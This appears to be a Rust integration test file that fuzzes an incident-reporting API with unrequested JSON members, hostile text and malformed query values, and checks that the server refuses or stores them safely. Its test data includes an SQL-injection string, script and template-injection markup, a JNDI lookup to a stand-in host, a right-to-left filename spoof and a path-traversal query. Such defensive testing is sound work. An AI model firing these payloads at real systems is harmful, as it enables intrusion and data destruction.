//! Every member and every parameter that the document names, filled with what hurts: members that only answers have, texts
//! that mean something to SQL, to a search, to a terminal or to nobody.

use std::collections::BTreeSet;
use std::sync::Arc;

use zvit_tests::walk::Walk;
use zvit_tests::{Server, Store, Value, both_stores, fresh, json, report};

use crate::threats_bodies::{Targets, caller, refusal, renew, send, with_bodies};

/// What answers say of a thing, and what objects of some languages say of themselves.
const NOT_ASKED_FOR: &[&str] = &[
    "__proto__",
    "constructor",
    "prototype",
    "$ref",
    "$where",
    "@type",
    "id",
    "_id",
    "ID",
    "status",
    "state",
    "version",
    "owner",
    "owner_id",
    "institution",
    "institution_id",
    "tlp_ceiling",
    "credential_version",
    "client_secret",
    "secret_sha256",
    "active",
    "on_hold",
    "level",
    "triage",
    "score",
    "created_at",
    "updated_at",
    "received_at",
    "report_sha256",
    "reference",
    "assignments",
    "deadlines",
    "position",
    "provisional",
    "is_admin",
    "role",
    "scopes",
    "override",
    "client_id",
    "kid",
    "spare",
    "coordinator",
    "why",
    "warnings",
    "rate_per_second",
    "rate_burst",
    "capacity",
    "actor",
    "audience",
];

/// A server that lets a client call as often as the walks do.
fn unlimited(store: &Arc<Store>) -> Server {
    Server::start_with(store, &["--client-rate", "100000", "--client-burst", "100000"])
}

both_stores!(no_member_but_those_of_the_document_is_written_anywhere, |store| {
    let server = &unlimited(store);
    let walk = Walk::of(&server.anyone());
    let targets = Targets::at(server);
    let mut walked = 0;
    server.store.untouched(|| {
        for (operation, body) in with_bodies(&walk) {
            let (client, path) = (caller(server, &operation), operation.at(targets.id(&operation.path)));
            let schema = walk.body_schema(&operation).expect("a schema");
            for (place, schema) in walk.places(&schema, &body) {
                let mut bent = body.clone();
                let Some(members) = bent.pointer_mut(&place).and_then(Value::as_object_mut) else { continue };
                let mut added = Vec::new();
                for name in NOT_ASKED_FOR {
                    if schema["properties"].get(name).is_none() {
                        members.insert((*name).to_owned(), json!("01920000-0000-7002-8000-000000000001"));
                        added.push(format!("{place}/{name}"));
                    }
                }
                let answer = send(&client, &operation, &path, &bent.to_string());
                let (status, named) = refusal(&answer);
                assert_eq!(status, 422, "{} {path} {place}\n{answer}", operation.method);
                // Of one of several forms the whole may be what doesn't fit.
                let is_named = |at: &String| named.contains(at) || named.contains(&place) && !place.is_empty();
                let missed: Vec<_> = added.iter().filter(|at| !is_named(at)).collect();
                assert!(missed.is_empty(), "{} {path}: {missed:?} not refused\n{answer}", operation.method);
                walked += added.len();
            }
        }
    });
    assert!(walked > 1_000, "{walked}");
});

both_stores!(a_lenient_reading_writes_no_more_than_a_strict_one, |store| {
    let server = &unlimited(store);
    let mut body = json!({"description": "Подія", "title": "Подія"});
    let plain = server.hospital().post("/v1/incidents").fresh_key().lenient().json(body.clone()).expect(201);
    for name in NOT_ASKED_FOR {
        body[*name] = json!("01920000-0000-7002-8000-000000000002");
    }
    let bent = server.hospital().post("/v1/incidents").fresh_key().lenient().json(body).expect(201);
    for member in [
        "/status",
        "/level",
        "/institution",
        "/triage",
        "/deadlines/0/state",
        "/classification",
        "/tlp",
        "/sector",
        "/exercise",
    ] {
        assert_eq!(bent.value.pointer(member), plain.value.pointer(member), "{member}\n{bent}");
    }
    assert_eq!(bent.list("/warnings").len(), NOT_ASKED_FOR.len(), "{bent}");
    assert_eq!(bent.etag(), "\"1\"");
});

/// One of each trade; a test that fails says which.
const HOSTILE: &[(&str, &str)] = &[
    (
        "sql",
        "x'); DROP TABLE incidents; -- \" ' OR 1=1 /* */ $1 ?1 :a @b \\' \\\\ % _ E'\\x41' U&'\\0041' || pg_sleep(9)",
    ),
    (
        "markup",
        "<script>alert(1)</script>&amp;<!--{{7*7}}${jndi:ldap://evil.example/a}#{1}=HYPERLINK(\"//evil.example\")",
    ),
    ("direction", "x\u{202e}gpj.exe\u{2066}\u{2069}\u{200f}\u{61c}"),
    ("invisible", "a\u{200b}b\u{200c}\u{200d}\u{2060}\u{feff}c\u{ad}\u{34f}\u{e0041}"),
    ("planes", "🚑\u{10ffff}\u{1f468}\u{200d}\u{1f469}\u{fe0f}\u{fffe}\u{ffff}\u{fdd0}\u{fffd}"),
    ("marks", "e\u{301}\u{301}\u{301}é Ǆ ſ İ ß ﬁ і\u{308}ї"),
    ("controls", "a\tb\r\nX: y\u{1b}[31m\u{7}\u{8}\u{7f}\u{85}\u{2028}\u{2029}c"),
    ("empty", ""),
    ("blanks", " \u{a0}\u{3000} "),
];

/// Where a text may say anything; so that the walk below is known to reach the tables.
const FREE: &[&str] = &[
    "POST /v1/incidents /affected_services/0",
    "POST /v1/incidents /contact/name",
    "POST /v1/incidents /contact/role",
    "POST /v1/incidents /description",
    "POST /v1/incidents /external_ref",
    "POST /v1/incidents /indicators/0/description",
    "POST /v1/incidents /measures_taken",
    "POST /v1/incidents /title",
    "POST /v1/incidents/{id}/reports /contact/name",
    "POST /v1/incidents/{id}/reports /description",
    "POST /v1/incidents/{id}/reports /title",
    "POST /v1/incidents/{id}/assignments /reason",
    "POST /v1/incidents/{id}/attachments/external /filename",
    "POST /v1/incidents/{id}/messages /text",
    "POST /v1/incidents/{id}/translations /text",
    "POST /v1/incidents/{id}/close /reason",
    "POST /v1/incidents/{id}/reopen /reason",
    "POST /v1/incidents/{id}/withdraw /reason",
    "POST /v1/incidents/{id}/withdrawal/confirm /reason",
    "POST /v1/incidents/{id}/withdrawal/reject /reason",
    "PUT /v1/incidents/{id}/triage /reason",
    "POST /v1/assignments/{id}/revoke /reason",
    "POST /v1/cases/{id}/acknowledge /external_ref",
    "POST /v1/cases/{id}/decline /reason",
    "POST /v1/cases/{id}/hand-over /reason",
    "POST /v1/cases/{id}/indicators /indicators/0/description",
    "POST /v1/cases/{id}/request-support /reason",
    "POST /v1/cases/{id}/resolve /summary",
    "POST /v1/cases/{id}/triage-proposals /reason",
    "POST /v1/triage-proposals/{id}/accept /reason",
    "POST /v1/clients /name",
    "PUT /v1/clients/{id} /name",
    "POST /v1/institutions /contacts/0/name",
    "POST /v1/institutions /name_en",
    "POST /v1/institutions /name_uk",
    "POST /v1/institutions /services/0/name",
    "PUT /v1/institutions/{id} /name_uk",
    "POST /v1/participants /name_en",
    "PUT /v1/participants/{id} /name_uk",
    "POST /v1/teams /contacts/0/role",
    "POST /v1/teams /name",
    "PUT /v1/teams/{id} /name",
    "PUT /v1/routing-rules /reason",
];

both_stores!(no_text_in_any_member_breaks_anything, |store| {
    let server = &unlimited(store);
    let walk = Walk::of(&server.anyone());
    let targets = Targets::at(server);
    let mut taken = BTreeSet::new();
    for (operation, body) in with_bodies(&walk) {
        let (client, method) = (caller(server, &operation), &operation.method);
        let schema = walk.body_schema(&operation).expect("a schema");
        for (place, schema) in walk.places(&schema, &body) {
            if !body.pointer(&place).is_some_and(Value::is_string) {
                continue;
            }
            let most = schema["maxLength"].as_u64().unwrap_or(200);
            let longest = "🚑".repeat(usize::try_from(most).expect("a length").min(20_000));
            for (trade, text) in HOSTILE.iter().copied().chain([("longest", longest.as_str())]) {
                let mut bent = body.clone();
                renew(&mut bent, &place);
                *bent.pointer_mut(&place).expect("a place") = json!(text);
                let path = targets.path(server, &operation);
                let answer = send(&client, &operation, &path, &bent.to_string());
                assert!(answer.status < 500, "{method} {path} {place} {trade}\n{answer}");
                if (200..300).contains(&answer.status) {
                    // The answer to a decision shows the team's reason for its proposal, a link that is removed why it was made.
                    let is_echo = !operation.path.starts_with("/v1/triage-proposals/")
                        && operation.path != "/v1/links/{id}/remove";
                    let kept = answer.value.pointer(&place).and_then(Value::as_str).filter(|_| is_echo);
                    let safe = (place == "/filename").then(|| zvit_domain::conversation::safe_filename(text));
                    let as_sent =
                        kept.is_none_or(|kept| kept == text || kept == text.trim() || safe.as_deref() == Some(kept));
                    assert!(as_sent, "{method} {path} {place} {trade}: {kept:?}");
                    if trade == "sql" {
                        taken.insert(format!("{method} {} {place}", operation.path));
                    }
                }
            }
            // What no database and no text takes.
            for escape in ["\\u0000", "a\\u0000b", "\\ud800", "\\udfff\\ud800", "\\ud83d"] {
                let mut bent = body.clone();
                renew(&mut bent, &place);
                *bent.pointer_mut(&place).expect("a place") = json!("@@");
                let text = bent.to_string().replace("\"@@\"", &format!("\"{escape}\""));
                let path = operation.at(targets.id(&operation.path));
                let answer = send(&client, &operation, &path, &text);
                assert!([400, 422].contains(&refusal(&answer).0), "{method} {path} {place} {escape}\n{answer}");
            }
        }
    }
    let missed: Vec<_> = FREE.iter().filter(|place| !taken.contains(**place)).collect();
    assert!(missed.is_empty(), "not taken: {missed:#?}");
    assert!(server.store.count("incidents") > 1, "the tables are all there");
    for path in
        ["/v1/audit-events?limit=200", "/v1/institutions?limit=200", "/v1/teams?limit=200", "/v1/clients?limit=200"]
    {
        server.coordinator().get(path).expect(200);
    }
    server.hospital().submit(report("Усе ще приймає"));
});

both_stores!(what_a_report_says_is_kept_to_the_letter, |store| {
    let server = &unlimited(store);
    for (trade, text) in HOSTILE {
        if text.trim().is_empty() {
            continue;
        }
        let contact = json!({"name": text});
        let sent = report(text).with("title", *text).with("measures_taken", *text).with("contact", contact);
        let answer = server.hospital().post("/v1/incidents").key(&fresh()).json(sent).send();
        if answer.status == 422 {
            // A line holds no line breaks or the like; that is said, not silently mended.
            assert!(text.contains(char::is_control), "{trade}\n{answer}");
            continue;
        }
        let id = answer.expect(201).string("/id");
        let path = format!("/v1/incidents/{id}");
        let read = server.hospital().get(&path).expect(200);
        assert_eq!(read.str("/description"), *text, "{trade}");
        assert_eq!(read.str("/measures_taken"), *text, "{trade}");
        assert_eq!(read.str("/title"), text.trim(), "{trade}");
        assert_eq!(read.str("/contact/name"), text.trim(), "{trade}");
        server.coordinator().get("/v1/incidents/feed").expect(200);
    }
});

both_stores!(no_query_breaks_anything, |store| {
    let server = &unlimited(store);
    let walk = Walk::of(&server.anyone());
    let targets = Targets::at(server);
    let encode = |text: &str| text.bytes().map(|b| format!("%{b:02X}")).collect::<String>();
    let mut values: Vec<String> = HOSTILE.iter().map(|(_, text)| encode(text)).collect();
    values.extend(
        [
            "%00",
            "%FF",
            "%C0%AF",
            "%ED%A0%80",
            "%",
            "%zz",
            "%2",
            "+",
            "-1",
            "0",
            "-0",
            "1e3",
            "01",
            "+1",
            "0x10",
            "201",
            "4294967297",
            "9223372036854775807",
            "9223372036854775808",
            "99999999999999999999999",
            "NaN",
            "null",
            "true",
            "%5B%5D",
            "%7B%7D",
            "%5Bobject%20Object%5D",
            "2026-11-23T00:00:00",
            "9999-12-31T23:59:59Z",
            "-9999-01-01T00:00:00Z",
            "0000-00-00",
            "2026-11-23T00:00:00%2B25:00",
            "AAAA",
            "AQAAAAAAAAAAAAAAAAAAAAAAAAAA",
            "..%2F..%2Fetc%2Fpasswd",
            "a,b",
            "a;b",
            "a%26b",
        ]
        .map(str::to_owned),
    );
    values.push("a".repeat(6_000));
    values.push("%D0%B0".repeat(1_000));
    server.receive_everything();
    server.store.untouched(|| {
        for operation in walk.operations().iter().filter(|one| one.needs_token() && one.method == "GET") {
            let (client, path) = (caller(server, operation), operation.at(targets.id(&operation.path)));
            for (name, _) in operation.query() {
                for value in values.iter().filter(|value| name != "wait" || value.len() > 2) {
                    for query in [
                        format!("{name}={value}"),
                        format!("{name}={value}&{name}={value}"),
                        format!("{name}%5B%5D={value}"),
                    ] {
                        let answer = client.get(&format!("{path}?{query}")).send();
                        assert!(
                            [200, 400, 404, 410, 414, 422].contains(&answer.status),
                            "{path}?{query:.300}\n{answer}"
                        );
                    }
                }
            }
            let many = (0..500).map(|n| format!("x{n}=1")).collect::<Vec<_>>().join("&");
            for query in
                ["?", "&", "=", "&&=&", "limit", "limit=", "=1", "a=b=c", "%00=1", "__proto__=1", many.as_str()]
            {
                let answer = client.get(&format!("{path}?{query}")).send();
                assert!(answer.status < 500, "{path}?{query:.300}\n{answer}");
            }
        }
    });
});
